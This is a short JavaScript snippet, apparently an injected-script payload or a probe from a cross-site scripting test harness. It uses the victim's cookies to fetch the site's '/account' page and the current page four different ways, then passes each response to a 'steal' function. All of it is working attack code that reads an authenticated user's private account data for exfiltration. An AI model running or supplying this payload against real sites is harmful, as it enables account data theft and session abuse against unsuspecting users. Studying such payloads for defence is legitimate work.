// Tries: ask the site's own server as the reader, with the reader's cookies, and read the answer.
(async () => {
  const url = new URL("/account", location.href).href;
  const ways = {
    fetch: () => fetch(url, { credentials: "include" }).then((r) => r.text()),
    plain: () => fetch(url, { credentials: "include", mode: "no-cors" }).then((r) => r.text()),
    xhr: () => new Promise((done, fail) => {
      const request = new XMLHttpRequest();
      request.open("GET", url);
      request.withCredentials = true;
      request.onload = () => done(request.responseText);
      request.onerror = () => fail("xhr failed");
      request.send();
    }),
    reread: () => fetch(location.href, { credentials: "include" }).then((r) => r.text()),
  };
  for (const way in ways) {
    try {
      steal("call-site", `${way} got ${await ways[way]()}`);
    } catch (error) {
      steal("call-site", `${way}: ${error}`);
    }
  }
  over("call-site");
})();
